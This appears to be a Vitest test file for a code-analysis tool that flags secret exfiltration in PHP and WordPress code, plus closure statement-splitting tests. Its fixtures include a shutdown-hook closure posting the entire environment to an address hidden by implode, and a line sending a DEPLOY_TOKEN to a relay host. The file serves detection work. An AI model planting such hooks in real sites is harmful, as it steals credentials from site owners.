import { describe, expect, it } from 'vitest';
import { libStatements } from '../../../src/analysis/code/scripting/lib-lang.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * PHP's environment reads (src/analysis/code/scripting/php-env.ts), WordPress's HTTP API, closures given as
 * arguments read statement by statement, and literal lists joined into one string (an address no line spells).
 */
const php = (code: string) => factsOf('scripting', `<?php\n${code}`);

describe('PHP environment, WordPress requests and closures', () => {
  it('getenv() whole, posted with wp_remote_post from inside a hook closure, to an address built by implode', async () => {
    const f = await php(
      [
        "add_action( 'shutdown', static function () use ( $site ) {",
        "\t$to   = 'https://' . implode( '.', array( 203, 0, 113, 9 ) ) . '/in';",
        "\t$data = array( 'env' => getenv(), 'site' => $site );",
        "\twp_remote_post( $to, array( 'body' => wp_json_encode( $data ) ) );",
        '} );',
      ].join('\n'),
    );
    const sends = ofKind(f, 'send');
    expect(sends).toHaveLength(1);
    expect(sends[0]!.endpoint.host).toBe('203.0.113.9');
    expect(sends[0]!.data.secret).toBe('env-all');
  });

  it('one secret-named variable through getenv or $_ENV; a plain one is no secret', async () => {
    const secret = await php(
      "$t = getenv('DEPLOY_TOKEN');\nwp_remote_post('https://hooks.example-relay.net/x', array('body' => $t));\n",
    );
    expect(ofKind(secret, 'send')[0]!.data.secret).toBe('env-secret');
    const plain = await php(
      "$r = $_ENV['APP_REGION'];\nwp_remote_get('https://api.wordpress.org/core/version-check/1.7/?r=' . $r);\n",
    );
    expect(ofKind(plain, 'send')).toEqual([]);
    expect(ofKind(plain, 'fetch')).toHaveLength(1);
  });

  it('splits the body of a closure argument into statements (PHP and Go function literals)', () => {
    const texts = (code: string, lang: 'php' | 'go') =>
      libStatements(code, lang).map((s) => s.text.replace(/\s+/g, ' ').trim());
    expect(texts("add_hook('x', function () use ($a) {\n$b = 1;\nf($b);\n});\n", 'php')).toEqual([
      "add_hook('x', function () use ($a)",
      '$b = 1',
      'f($b)',
      ')',
    ]);
    expect(texts('func main() {\n\tgo func() {\n\t\tx := 1\n\t\tuse(x)\n\t}()\n}\n', 'go')).toContain(
      'x := 1',
    );
  });
});
